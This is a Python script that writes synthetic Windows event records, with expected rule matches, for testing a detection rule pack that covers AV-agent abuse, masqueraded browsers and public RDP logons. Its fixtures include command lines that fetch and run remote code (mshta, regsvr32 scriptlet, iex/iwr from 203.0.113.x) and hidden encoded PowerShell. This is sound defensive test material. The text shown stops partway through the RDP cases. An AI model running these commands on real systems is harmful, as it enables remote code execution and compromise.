#!/usr/bin/env python3
"""make_cases.py OUTDIR - test events for the kizuki starter rule pack.

Writes OUTDIR/cases.evtx (one record per case, written with tests/tools/evtx_writer.py in
Windows' layout) and OUTDIR/expect.json: for each record its EventRecordID, the set of rule
`name`s (the intent keys) it must trigger - empty = none of the pack - and a one-line summary.
The events were written from the intent text and the layouts Windows uses (Sysmon, Security,
System, TerminalServices, PowerShell, MSExchange Management), not from the rules; an oracle
(the intents coded in plain Python) checks every label before anything is written.
Deterministic: the same script always gives the same bytes. See README.md here.
"""

import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, '..', 'tools'))
import evtx_writer as W  # noqa: E402

INTENTS = [
    'kz_av_agent_spawns_shell', 'kz_av_agent_drops_executable',
    'kz_powershell_renamed_as_browser', 'kz_browser_outside_install_dir',
    'kz_rdp_logon_from_public_address', 'kz_rdp_auth_from_public_address',
    'kz_rdp_session_from_public_address', 'kz_service_from_user_writable_path',
    'kz_remote_access_tool_service', 'kz_security_log_cleared',
    'kz_eventlog_service_shutdown', 'kz_shadow_copy_deletion',
    'kz_mailbox_export_cmdlet', 'kz_admin_share_access_by_user',
    'kz_lsass_memory_access', 'kz_ps_clear_eventlog',
]

FIRST_RECORD_ID = 7301
EVENT_NS = 'http://schemas.microsoft.com/win/2004/08/events/event'
EVENTLOG_NS = 'http://manifests.microsoft.com/win/2004/08/windows/eventlog'

SYSMON = ('Microsoft-Windows-Sysmon', '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
          'Microsoft-Windows-Sysmon/Operational')
SECURITY = ('Microsoft-Windows-Security-Auditing', '{54849625-5478-4994-A5BA-3E3B0328C30D}',
            'Security')
EVENTLOG = ('Microsoft-Windows-Eventlog', '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}', 'Security')
RCM = ('Microsoft-Windows-TerminalServices-RemoteConnectionManager',
       '{C76BAA63-AE81-421C-B425-340B4B24157F}',
       'Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational')
LSM = ('Microsoft-Windows-TerminalServices-LocalSessionManager',
       '{5D896912-022D-40AA-A3A8-4FA5515C76D7}',
       'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational')
PWSH = ('Microsoft-Windows-PowerShell', '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
        'Microsoft-Windows-PowerShell/Operational')
PWSH_CORE = ('PowerShellCore', '{F90714A8-5509-434A-BF6D-B1624C8A19A2}',
             'PowerShellCore/Operational')

AV_DIR = 'C:\\Program Files (x86)\\Trend Micro\\OfficeScan Client\\'
AV_SRV_DIR = 'C:\\Program Files (x86)\\Trend Micro\\Apex One\\PCCSRV\\'
DOMAIN = 'CORP'
USER_SID = 'S-1-5-21-3623811015-3361044348-30300820-1104'
ADMIN_SID = 'S-1-5-21-3623811015-3361044348-30300820-500'
SYSTEM_SID = 'S-1-5-18'


class Cases(object):
    """Accumulates (event JSON, expected names, summary); times advance 7 s per event."""

    def __init__(self):
        self.items = []
        self.seconds = 0

    def utc(self):
        """Sysmon's UtcTime of the current event (TimeCreated less a few ms)."""
        return self.cur[:11].replace('T', ' ') + self.cur[11:19] + '.%03d' % (
            max(int(self.cur[20:23]) - 3, 0))

    def time(self):
        self.seconds += 7
        s = self.seconds
        self.cur = '2024-03-11T%02d:%02d:%02d.%07dZ' % (8 + s // 3600, (s // 60) % 60, s % 60,
                                                       (s * 7919) % 10000000)
        return self.cur

    def add(self, ev, expect, summary):
        for k in expect:
            if k not in INTENTS:
                raise ValueError('unknown intent ' + k)
        self.items.append((ev, sorted(set(expect)), summary))


def system(c, prov, eid, computer, *, version=0, level=4, task=0, opcode=0,
           keywords='0x8000000000000000', pid=4, tid=100, user_sid=None,
           qualifiers=None, activity=None, channel=None, source_name=None):
    name, guid, chan = prov
    p = {'Name': name}
    if guid:
        p['Guid'] = guid
    if source_name:
        p['EventSourceName'] = source_name
    s = {'Provider': {'#attributes': p}}
    s['EventID'] = ({'#attributes': {'Qualifiers': qualifiers}, '#text': eid}
                    if qualifiers is not None else eid)
    s['Version'] = version
    s['Level'] = level
    s['Task'] = task
    s['Opcode'] = opcode
    s['Keywords'] = keywords
    s['TimeCreated'] = {'#attributes': {'SystemTime': c.time()}}
    s['EventRecordID'] = 0  # rewritten by the writer to the record's id
    s['Correlation'] = {'#attributes': {'ActivityID': activity}} if activity else None
    s['Execution'] = {'#attributes': {'ProcessID': pid, 'ThreadID': tid}}
    s['Channel'] = channel or chan
    s['Computer'] = computer
    s['Security'] = {'#attributes': {'UserID': user_sid}} if user_sid else None
    return s


def event(sysd, data=None, userdata=None, types=None):
    e = {'#attributes': {'xmlns': EVENT_NS}, 'System': sysd}
    if userdata is not None:
        e['UserData'] = userdata
    elif data is not None:
        e['EventData'] = data
    out = {'Event': e}
    if types:
        out['#kizuki'] = {'types': types}
    return out


_guid_n = [0x1000]


def pguid():
    _guid_n[0] += 0x25
    return '{9B2E6A41-%04X-65EE-%04X-000000001F00}' % (0x6100 + _guid_n[0] % 0x9000,
                                                       _guid_n[0])


def sha(n):
    h = ('%08X' % (0x9E3779B1 * n & 0xFFFFFFFF)) * 8
    return 'SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s' % (h[:40], h[8:40], h, h[16:48])


SYSMON_TYPES_1 = {'EventData.ProcessGuid': 'guid', 'EventData.ProcessId': 'uint32',
                  'EventData.LogonGuid': 'guid', 'EventData.LogonId': 'hexint64',
                  'EventData.TerminalSessionId': 'uint32',
                  'EventData.ParentProcessGuid': 'guid', 'EventData.ParentProcessId': 'uint32'}
SEC_TYPES = {'EventData.SubjectUserSid': 'sid', 'EventData.SubjectLogonId': 'hexint64',
             'EventData.TargetUserSid': 'sid', 'EventData.TargetLogonId': 'hexint64'}


def sysmon1(c, computer, image, cmdline, parent, parent_cmd, *, ofn='-', desc='-',
            product='-', company='-', user=DOMAIN + '\\alice', cwd='C:\\Windows\\system32\\',
            integrity='Medium', pid=6148, ppid=4420):
    s = system(c, SYSMON, 1, computer, version=5, task=1, pid=2964, tid=3880,
               user_sid=SYSTEM_SID)
    d = {'RuleName': '-', 'UtcTime': c.utc(),
         'ProcessGuid': pguid(), 'ProcessId': pid, 'Image': image,
         'FileVersion': '10.0.19041.3636 (WinBuild.160101.0800)' if company != '-' else '-',
         'Description': desc, 'Product': product, 'Company': company,
         'OriginalFileName': ofn, 'CommandLine': cmdline, 'CurrentDirectory': cwd,
         'User': user, 'LogonGuid': '{9B2E6A41-7F52-65EE-50D1-E83300000000}',
         'LogonId': '0x33e8d150', 'TerminalSessionId': 1, 'IntegrityLevel': integrity,
         'Hashes': sha(pid), 'ParentProcessGuid': pguid(), 'ParentProcessId': ppid,
         'ParentImage': parent, 'ParentCommandLine': parent_cmd,
         'ParentUser': 'NT AUTHORITY\\SYSTEM' if 'Trend Micro' in parent else user}
    return event(s, d, types=SYSMON_TYPES_1)


def sec4688(c, computer, image, cmdline, parent, *, user='alice', user_sid=USER_SID,
            pid=0x1f34, ppid=0x1b0c, elevation='%%1938', label='S-1-16-8192'):
    """Security 4688 version 2 (Windows 10 / Server 2016+): ParentProcessName present."""
    machine = user.endswith('$')
    d = {'SubjectUserSid': SYSTEM_SID if machine else user_sid,
         'SubjectUserName': user, 'SubjectDomainName': DOMAIN,
         'SubjectLogonId': '0x3e7' if machine else '0x5f3a21',
         'NewProcessId': '0x%x' % pid, 'NewProcessName': image,
         'TokenElevationType': elevation, 'ProcessId': '0x%x' % ppid,
         'CommandLine': cmdline, 'TargetUserSid': 'S-1-0-0', 'TargetUserName': '-',
         'TargetDomainName': '-', 'TargetLogonId': '0x0', 'ParentProcessName': parent,
         'MandatoryLabel': label}
    s = system(c, SECURITY, 4688, computer, version=2, level=0, task=13312,
               keywords='0x8020000000000000', pid=4, tid=7716)
    t = dict(SEC_TYPES)
    t.update({'EventData.NewProcessId': 'hexint64', 'EventData.ProcessId': 'hexint64',
              'EventData.MandatoryLabel': 'sid'})
    return event(s, d, types=t)


def sysmon11(c, computer, image, target, *, pid=3312, user='NT AUTHORITY\\SYSTEM'):
    s = system(c, SYSMON, 11, computer, version=2, task=11, pid=2964, tid=3880,
               user_sid=SYSTEM_SID)
    ut = c.utc()
    d = {'RuleName': '-', 'UtcTime': ut, 'ProcessGuid': pguid(), 'ProcessId': pid,
         'Image': image, 'TargetFilename': target, 'CreationUtcTime': ut, 'User': user}
    return event(s, d, types={'EventData.ProcessGuid': 'guid',
                              'EventData.ProcessId': 'uint32'})


def sysmon10(c, computer, source, access, *, target='C:\\Windows\\system32\\lsass.exe',
             spid=5512, tpid=736, user=DOMAIN + '\\alice'):
    s = system(c, SYSMON, 10, computer, version=3, task=10, pid=2964, tid=3880,
               user_sid=SYSTEM_SID)
    d = {'RuleName': '-', 'UtcTime': c.utc(),
         'SourceProcessGUID': pguid(), 'SourceProcessId': spid, 'SourceThreadId': spid + 4,
         'SourceImage': source, 'TargetProcessGUID': '{9B2E6A41-6649-65EE-0B00-000000001F00}',
         'TargetProcessId': tpid, 'TargetImage': target, 'GrantedAccess': access,
         'CallTrace': 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|'
                      'C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A1C2B3F0)',
         'SourceUser': user, 'TargetUser': 'NT AUTHORITY\\SYSTEM'}
    return event(s, d, types={'EventData.SourceProcessGUID': 'guid',
                              'EventData.TargetProcessGUID': 'guid',
                              'EventData.SourceProcessId': 'uint32',
                              'EventData.SourceThreadId': 'uint32',
                              'EventData.TargetProcessId': 'uint32',
                              'EventData.GrantedAccess': 'hexint32'})


def sec4624(c, computer, logon_type, ip, *, user='alice', workstation='KALI',
            port='0', process='C:\\Windows\\System32\\svchost.exe', pid=0x3cc,
            lpn='User32 ', auth='Negotiate'):
    d = {'SubjectUserSid': SYSTEM_SID, 'SubjectUserName': computer.split('.')[0].upper() + '$',
         'SubjectDomainName': DOMAIN, 'SubjectLogonId': '0x3e7',
         'TargetUserSid': USER_SID, 'TargetUserName': user, 'TargetDomainName': DOMAIN,
         'TargetLogonId': '0x1c8f3a2', 'LogonType': logon_type, 'LogonProcessName': lpn,
         'AuthenticationPackageName': auth, 'WorkstationName': workstation,
         'LogonGuid': '{00000000-0000-0000-0000-000000000000}', 'TransmittedServices': '-',
         'LmPackageName': '-', 'KeyLength': 0, 'ProcessId': '0x%x' % pid,
         'ProcessName': process, 'IpAddress': ip, 'IpPort': port,
         'ImpersonationLevel': '%%1833', 'RestrictedAdminMode': '%%1843',
         'TargetOutboundUserName': '-', 'TargetOutboundDomainName': '-',
         'VirtualAccount': '%%1843', 'TargetLinkedLogonId': '0x0', 'ElevatedToken': '%%1842'}
    s = system(c, SECURITY, 4624, computer, version=2, level=0, task=12544,
               keywords='0x8020000000000000', pid=812, tid=6604)
    t = dict(SEC_TYPES)
    t.update({'EventData.LogonType': 'uint32', 'EventData.LogonGuid': 'guid',
              'EventData.KeyLength': 'uint32', 'EventData.ProcessId': 'hexint64',
              'EventData.TargetLinkedLogonId': 'hexint64'})
    return event(s, d, types=t)


def rcm1149(c, computer, user, domain, addr):
    s = system(c, RCM, 1149, computer, keywords='0x1000000000000000', pid=1128, tid=3296,
               user_sid='S-1-5-20', activity='{F4208CEC-4DF9-4D54-882A-4C115ABC0000}')
    ud = {'EventXML': {'#attributes': {'xmlns': 'Event_NS'},
                       'Param1': user, 'Param2': domain, 'Param3': addr}}
    return event(s, userdata=ud)


def lsm(c, computer, eid, user, session, addr):
    s = system(c, LSM, eid, computer, keywords='0x1000000000000000', pid=1016, tid=4120,
               user_sid=SYSTEM_SID, activity='{F420D7BA-42DF-4C4C-AF07-80EDD9380000}')
    ud = {'EventXML': {'#attributes': {'xmlns': 'Event_NS'},
                       'User': user, 'SessionID': str(session), 'Address': addr}}
    return event(s, userdata=ud)


def sys7045(c, computer, name, path, *, start='demand start', account='LocalSystem',
            stype='user mode service', user_sid=ADMIN_SID):
    s = system(c, ('Service Control Manager', '{555908d1-a6d7-4695-8e1e-26931d2012f4}',
                   'System'), 7045, computer, qualifiers=16384,
               keywords='0x8080000000000000', pid=680, tid=5220, user_sid=user_sid,
               source_name='Service Control Manager')
    d = {'ServiceName': name, 'ImagePath': path, 'ServiceType': stype,
         'StartType': start, 'AccountName': account}
    return event(s, d)


def sec5140(c, computer, user, share, *, ip='10.20.4.17', sid=USER_SID,
            local=None, eid=5140):
    if local is None:
        local = ('\\??\\C:\\Windows' if share.upper().endswith('ADMIN$') else
                 '\\??\\C:\\' if share.upper().endswith('C$') else '')
    d = {'SubjectUserSid': sid,
         'SubjectUserName': user, 'SubjectDomainName': DOMAIN,
         'SubjectLogonId': '0x2b14c91', 'ObjectType': 'File', 'IpAddress': ip,
         'IpPort': '51712', 'ShareName': share, 'ShareLocalPath': local,
         'AccessMask': '0x1', 'AccessList': '%%4416\r\n\t\t\t\t'}
    if eid == 5145:
        d['RelativeTargetName'] = 'Temp\\svc.exe'
        d['AccessReason'] = '-'
    s = system(c, SECURITY, eid, computer, version=1, level=0, task=12808,
               keywords='0x8020000000000000', pid=4, tid=5184)
    return event(s, d, types=SEC_TYPES)


def log_cleared(c, computer, user, *, sid=ADMIN_SID, prov=EVENTLOG, eid=1102):
    s = system(c, prov, eid, computer, level=4, task=104, keywords='0x4020000000000000',
               pid=1244, tid=4672)
    ud = {'LogFileCleared': {'#attributes': {'xmlns': EVENTLOG_NS},
                             'SubjectUserSid': sid, 'SubjectUserName': user,
                             'SubjectDomainName': DOMAIN, 'SubjectLogonId': '0x1c8f3a2'}}
    return event(s, userdata=ud, types={'UserData.LogFileCleared.SubjectUserSid': 'sid',
                                        'UserData.LogFileCleared.SubjectLogonId': 'hexint64'})


def service_shutdown(c, computer, *, prov=EVENTLOG, eid=1100):
    s = system(c, prov, eid, computer, level=4, task=103, keywords='0x4020000000000000',
               pid=1244, tid=5120)
    ud = {'ServiceShutdown': {'#attributes': {
        'xmlns:auto-ns3': 'http://schemas.microsoft.com/win/2004/08/events',
        'xmlns': EVENTLOG_NS}}}
    return event(s, userdata=ud)


def ps4104(c, computer, text, *, prov=PWSH, eid=4104, level=5, path=''):
    s = system(c, prov, eid, computer, version=1, level=level, task=2, opcode=15,
               keywords='0x0', pid=7588, tid=9704, user_sid=USER_SID,
               activity='{93FD0727-512B-0007-5FDA-02942B51D701}')
    d = {'MessageNumber': 1, 'MessageTotal': 1, 'ScriptBlockText': text,
         'ScriptBlockId': 'f7f7a3a7-9fc0-4e60-960a-df716d95b%03x' % (c.seconds % 4096),
         'Path': path}
    return event(s, d, types={'EventData.MessageNumber': 'int32',
                              'EventData.MessageTotal': 'int32'})


def exch(c, computer, cmdlet, params, *, eid=1, channel='MSExchange Management',
         provider='MSExchange CmdletLogs'):
    s = system(c, (provider, None, channel), eid, computer, qualifiers=16384, task=1,
               keywords='0x80000000000000', pid=5668, tid=9012)
    s['Security'] = None
    data = [cmdlet, params, 'corp.example.com/Users/Administrator', ADMIN_SID, ADMIN_SID,
            'Remote-ManagementShell-Unknown', '5668 w3wp#MSExchangePowerShellAppPool', '',
            '2', '00:00:01.2812500',
            "View Entire Forest: 'False', Configuration Domain Controller: 'DC01.corp.example.com'",
            '', '', '', '', '', '', 'False', '', '', '', '', '0',
            'ActivityId: 5c3f1a26-9d1e-4b8a-a7c4-2e0f9b6d3a11', 'ServicePlan:;IsAdmin:True;',
            '', 'en-US']
    return event(s, {'Data': data})


def build():
    c = Cases()
    ws, srv = 'WS0142.corp.example.com', 'APEX01.corp.example.com'

    # 1. kz_av_agent_spawns_shell -------------------------------------------------------
    k = 'kz_av_agent_spawns_shell'
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\cmd.exe',
                  'cmd.exe /c C:\\ProgramData\\tmupd\\setup.bat', AV_DIR + 'PccNTMon.exe',
                  '"%sPccNTMon.exe" -HideWindow' % AV_DIR, ofn='Cmd.Exe',
                  desc='Windows Command Processor', company='Microsoft Corporation',
                  product='Microsoft\u00ae Windows\u00ae Operating System',
                  user='NT AUTHORITY\\SYSTEM', integrity='System'),
          [k], 'Sysmon 1: PccNTMon.exe -> cmd.exe')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                  'powershell.exe -nop -w hidden -enc SQBFAFgA', AV_SRV_DIR + 'OfcService.exe',
                  '"%sOfcService.exe"' % AV_SRV_DIR, ofn='PowerShell.EXE',
                  desc='Windows PowerShell', company='Microsoft Corporation',
                  user='NT AUTHORITY\\SYSTEM', integrity='System'),
          [k], 'Sysmon 1: OfcService.exe -> powershell.exe')
    c.add(sysmon1(c, ws, 'C:\\Windows\\SysWOW64\\rundll32.exe',
                  'rundll32.exe C:\\Users\\Public\\tm.dll,Start', AV_DIR + 'TmListen.exe',
                  '"%sTmListen.exe" -service' % AV_DIR, ofn='RUNDLL32.EXE',
                  user='NT AUTHORITY\\SYSTEM', integrity='System'),
          [k], 'Sysmon 1: TmListen.exe -> rundll32.exe')
    c.add(sec4688(c, ws, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                  'powershell.exe -ep bypass -f C:\\Windows\\Temp\\a.ps1',
                  AV_DIR + 'NTRtScan.exe', user='WS0142$', elevation='%%1936',
                  label='S-1-16-16384'),
          [k], '4688: NTRtScan.exe -> powershell.exe')
    c.add(sec4688(c, srv, 'C:\\WINDOWS\\system32\\MSHTA.EXE',
                  'mshta.exe http://203.0.113.50/a.hta',
                  'c:\\program files (x86)\\trend micro\\officescan client\\tmccsf.exe',
                  user='APEX01$', elevation='%%1936', label='S-1-16-16384'),
          [k], '4688: tmccsf.exe (lower case) -> MSHTA.EXE (upper case)')
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\regsvr32.exe',
                  'regsvr32 /s /n /u /i:http://203.0.113.50/x.sct scrobj.dll',
                  'C:\\Program Files\\Trend Micro\\BM\\TMBMSRV.exe', 'TMBMSRV.exe',
                  user='NT AUTHORITY\\SYSTEM', integrity='System'),
          [k], 'Sysmon 1: TMBMSRV.exe -> regsvr32.exe')
    c.add(sysmon1(c, srv, 'C:\\Windows\\System32\\cscript.exe', 'cscript //nologo x.vbs',
                  'C:\\Program Files (x86)\\Trend Micro\\Apex One\\CNTAoSMgr.exe',
                  'CNTAoSMgr.exe', user='NT AUTHORITY\\SYSTEM', integrity='System'),
          [k], 'Sysmon 1: CNTAoSMgr.exe -> cscript.exe')
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\wscript.exe', 'wscript.exe C:\\Temp\\u.js',
                  AV_DIR + 'TmPfw.exe', 'TmPfw.exe', user='NT AUTHORITY\\SYSTEM',
                  integrity='System'),
          [k], 'Sysmon 1: TmPfw.exe -> wscript.exe')
    c.add(sec4688(c, ws, 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', 'pwsh -c whoami',
                  AV_DIR + 'PccNTMon.exe'),
          [k], '4688: PccNTMon.exe -> pwsh.exe')
    # negatives
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\conhost.exe',
                  '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
                  AV_DIR + 'PccNTMon.exe', 'PccNTMon.exe', user='NT AUTHORITY\\SYSTEM'),
          [], 'neg 1: PccNTMon.exe -> conhost.exe (not a shell)')
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir',
                  'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'),
          [], 'neg 1: explorer.exe -> cmd.exe (parent not an AV agent)')
    c.add(sysmon1(c, ws, 'C:\\Tools\\mycmd.exe', 'mycmd.exe', AV_DIR + 'NTRtScan.exe',
                  'NTRtScan.exe', user='NT AUTHORITY\\SYSTEM'),
          [], 'neg 1: NTRtScan.exe -> mycmd.exe (ends with cmd.exe, not \\cmd.exe)')
    c.add(sec4688(c, ws, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ver',
                  AV_DIR + 'TmListen.exe.bak'),
          [], 'neg 1: 4688 TmListen.exe.bak -> cmd.exe (parent name does not end so)')
    c.add(sec4688(c, ws, AV_DIR + 'TmListen.exe', '"%sTmListen.exe" -service' % AV_DIR,
                  'C:\\Windows\\System32\\services.exe', user='WS0142$'),
          [], 'neg 1: 4688 services.exe -> TmListen.exe (agent is the child)')

    # 2. kz_av_agent_drops_executable --------------------------------------------------
    k = 'kz_av_agent_drops_executable'
    c.add(sysmon11(c, ws, AV_DIR + 'TmListen.exe', 'C:\\Users\\Public\\update.exe'),
          [k], 'Sysmon 11: TmListen.exe writes C:\\Users\\Public\\update.exe')
    c.add(sysmon11(c, srv, AV_SRV_DIR + 'OfcService.exe',
                  'C:\\Windows\\Temp\\deploy\\INSTALL.PS1'),
          [k], 'Sysmon 11: OfcService.exe writes INSTALL.PS1 (upper-case extension)')
    c.add(sysmon11(c, ws, AV_DIR + 'PccNTMon.exe', 'C:\\ProgramData\\tmupd\\tmcomm.dll'),
          [k], 'Sysmon 11: PccNTMon.exe writes a .dll in ProgramData')
    c.add(sysmon11(c, ws, AV_DIR + 'NTRtScan.exe', 'C:\\Users\\alice\\AppData\\Local\\a.hta'),
          [k], 'Sysmon 11: NTRtScan.exe writes a .hta')
    c.add(sysmon11(c, ws, AV_DIR + 'TmCCSF.exe', 'C:\\Temp\\Trend Micro Backup\\run.bat'),
          [k], 'Sysmon 11: TmCCSF.exe writes .bat under "\\Trend Micro Backup\\"')
    c.add(sysmon11(c, srv, AV_SRV_DIR + 'OfcService.exe', 'D:\\share\\drop\\logon.vbs'),
          [k], 'Sysmon 11: OfcService.exe writes a .vbs')
    c.add(sysmon11(c, srv, AV_SRV_DIR + 'OfcService.exe', 'C:\\inetpub\\wwwroot\\x.js'),
          [k], 'Sysmon 11: OfcService.exe writes a .js')
    # negatives
    c.add(sysmon11(c, ws, AV_DIR + 'TmListen.exe', AV_DIR + 'Temp\\patch\\TmUpgrade.exe'),
          [], 'neg 2: TmListen.exe writes an .exe inside \\Trend Micro\\ (own folder)')
    c.add(sysmon11(c, ws, AV_DIR + 'PccNTMon.exe',
                  'C:\\ProgramData\\Trend Micro\\AMSP\\patch\\vsapi64.dll'),
          [], 'neg 2: PccNTMon.exe writes a .dll in ProgramData\\Trend Micro\\')
    c.add(sysmon11(c, ws, AV_DIR + 'NTRtScan.exe', 'C:\\Windows\\Temp\\scan.log'),
          [], 'neg 2: NTRtScan.exe writes a .log')
    c.add(sysmon11(c, ws, AV_DIR + 'TmListen.exe', 'C:\\Users\\Public\\config.json'),
          [], 'neg 2: TmListen.exe writes .json (not .js)')
    c.add(sysmon11(c, ws, AV_DIR + 'TmListen.exe', 'C:\\Users\\Public\\update.exe.tmp'),
          [], 'neg 2: TmListen.exe writes .exe.tmp')
    c.add(sysmon11(c, ws, 'C:\\Windows\\System32\\msiexec.exe',
                  'C:\\Windows\\Installer\\MSI4F2A.tmp.exe'),
          [], 'neg 2: msiexec.exe (not an agent) writes an .exe')

    # 3. kz_powershell_renamed_as_browser / 4. kz_browser_outside_install_dir -------------
    k3, k4 = 'kz_powershell_renamed_as_browser', 'kz_browser_outside_install_dir'
    ps_kw = dict(ofn='PowerShell.EXE', desc='Windows PowerShell',
                 product='Microsoft\u00ae Windows\u00ae Operating System',
                 company='Microsoft Corporation')
    c.add(sysmon1(c, ws, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
                  'chrome.exe -nop -c "iex(iwr http://203.0.113.9/a)"',
                  'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', **ps_kw),
          [k3], 'Sysmon 1: PowerShell.EXE as Program Files\\...\\chrome.exe')
    c.add(sysmon1(c, ws, 'C:\\Users\\alice\\AppData\\Roaming\\Opera\\opera.exe',
                  'opera.exe -enc SQBFAFgA', 'C:\\Windows\\explorer.exe', 'explorer.exe',
                  ofn='pwsh.dll', desc='pwsh', product='PowerShell',
                  company='Microsoft Corporation'),
          [k3], 'Sysmon 1: pwsh.dll as ...\\opera.exe')
    c.add(sysmon1(c, ws, 'C:\\ProgramData\\Edge\\msedge.exe', 'msedge.exe -w hidden',
                  'C:\\Windows\\System32\\wscript.exe', 'wscript.exe x.js',
                  ofn='-', desc='Windows PowerShell', company='Microsoft Corporation'),
          [k3, k4], 'Sysmon 1: Description "Windows PowerShell" as C:\\ProgramData\\Edge\\msedge.exe')
    c.add(sysmon1(c, ws, 'C:\\Users\\Public\\BRAVE.EXE', 'BRAVE.EXE', 'C:\\Windows\\explorer.exe',
                  'explorer.exe', ofn='powershell.exe', desc='Windows PowerShell'),
          [k3], 'Sysmon 1: powershell.exe (case) as BRAVE.EXE (case)')
    # browsers outside their install dir
    c.add(sysmon1(c, ws, 'C:\\Users\\alice\\Downloads\\chrome.exe', 'chrome.exe --headless',
                  'C:\\Windows\\explorer.exe', 'explorer.exe', ofn='chrome.exe',
                  desc='Google Chrome', company='Google LLC'),
          [k4], 'Sysmon 1: chrome.exe in Downloads')
    c.add(sec4688(c, ws, 'C:\\ProgramData\\Mozilla\\firefox.exe', 'firefox.exe',
                  'C:\\Windows\\System32\\cmd.exe'),
          [k4], '4688: firefox.exe in C:\\ProgramData\\Mozilla')
    c.add(sec4688(c, ws, 'C:\\Windows\\Temp\\IEXPLORE.EXE', 'IEXPLORE.EXE',
                  'C:\\Windows\\System32\\svchost.exe', user='WS0142$'),
          [k4], '4688: IEXPLORE.EXE in C:\\Windows\\Temp')
    c.add(sysmon1(c, ws, 'D:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
                  'chrome.exe', 'C:\\Windows\\explorer.exe', 'explorer.exe',
                  ofn='chrome.exe', desc='Google Chrome', company='Google LLC'),
          [k4], 'Sysmon 1: chrome.exe under D:\\Program Files (not C:)')
    # negatives
    c.add(sysmon1(c, ws, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
                  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
                  'C:\\Windows\\explorer.exe', 'explorer.exe', ofn='chrome.exe',
                  desc='Google Chrome', product='Google Chrome', company='Google LLC'),
          [], 'neg 3/4: real chrome.exe in Program Files')
    c.add(sec4688(c, ws, 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
                  'msedge.exe --type=renderer',
                  'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'),
          [], 'neg 4: 4688 msedge.exe in Program Files (x86)')
    c.add(sysmon1(c, ws, 'C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe',
                  'chrome.exe', 'C:\\Windows\\explorer.exe', 'explorer.exe', ofn='chrome.exe',
                  desc='Google Chrome', company='Google LLC'),
          [], 'neg 4: per-user chrome in AppData\\Local\\Google\\Chrome\\Application')
    c.add(sec4688(c, ws, 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\Application\\msedge.exe',
                  'msedge.exe', 'C:\\Windows\\explorer.exe'),
          [], 'neg 4: 4688 per-user Edge in AppData\\Local\\Microsoft\\Edge\\Application')
    c.add(sysmon1(c, ws, 'C:\\Users\\bob\\AppData\\Local\\Mozilla Firefox\\firefox.exe',
                  'firefox.exe', 'C:\\Windows\\explorer.exe', 'explorer.exe',
                  ofn='firefox.exe', desc='Firefox', company='Mozilla Corporation'),
          [], 'neg 4: per-user Firefox in AppData\\Local\\Mozilla Firefox')
    c.add(sysmon1(c, ws, 'c:\\program files\\mozilla firefox\\firefox.exe', 'firefox.exe',
                  'C:\\Windows\\explorer.exe', 'explorer.exe', ofn='firefox.exe',
                  desc='Firefox', company='Mozilla Corporation'),
          [], 'neg 4: lower-case c:\\program files\\ prefix')
    c.add(sysmon1(c, ws, 'C:\\Users\\alice\\AppData\\Local\\Temp\\opera.exe', 'opera.exe',
                  'C:\\Windows\\explorer.exe', 'explorer.exe', ofn='opera.exe',
                  desc='Opera Internet Browser', company='Opera Norway AS'),
          [], 'neg 3/4: real opera.exe in Temp (opera is not in the list of intent 4)')
    c.add(sysmon1(c, ws, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                  'powershell.exe', 'C:\\Windows\\explorer.exe', 'explorer.exe', **ps_kw),
          [], 'neg 3: real powershell.exe')
    c.add(sysmon1(c, ws, 'C:\\Tools\\chrome_proxy.exe', 'chrome_proxy.exe',
                  'C:\\Windows\\explorer.exe', 'explorer.exe', **ps_kw),
          [], 'neg 3/4: PowerShell.EXE as chrome_proxy.exe')
    c.add(sysmon1(c, ws, 'C:\\Program Files\\BraveSoftware\\Brave-Browser\\Application\\brave.exe',
                  'brave.exe', 'C:\\Windows\\explorer.exe', 'explorer.exe', ofn='-',
                  desc='Windows PowerShell ISE', company='Microsoft Corporation'),
          [], 'neg 3: Description "Windows PowerShell ISE" (not exactly "Windows PowerShell")')

    # 5. kz_rdp_logon_from_public_address ----------------------------------------------
    k = 'kz_rdp_logon_from_public_address'
    jump = 'JUMP01.corp.example.com'
    rdp = dict(process='C:\\Windows\\System32\\svchost.exe')
    c.add(sec4624(c, jump, 10, '203.0.113.45', **rdp), [k], '4624 type 10 from 203.0.113.45')
    c.add(sec4624(c, jump, 10, '172.32.0.9', user='bob', **rdp), [k],
          '4624 type 10 from 172.32.0.9 (just outside 172.16/12)')
    c.add(sec4624(c, jump, 10, '2001:db8:4f1a::25', **rdp), [k],
          '4624 type 10 from IPv6 2001:db8:4f1a::25')
    c.add(sec4624(c, jump, 10, '100.128.7.1', **rdp), [k],
          '4624 type 10 from 100.128.7.1 (just outside 100.64/10)')
    c.add(sec4624(c, jump, 10, '11.0.0.1', **rdp), [k], '4624 type 10 from 11.0.0.1')
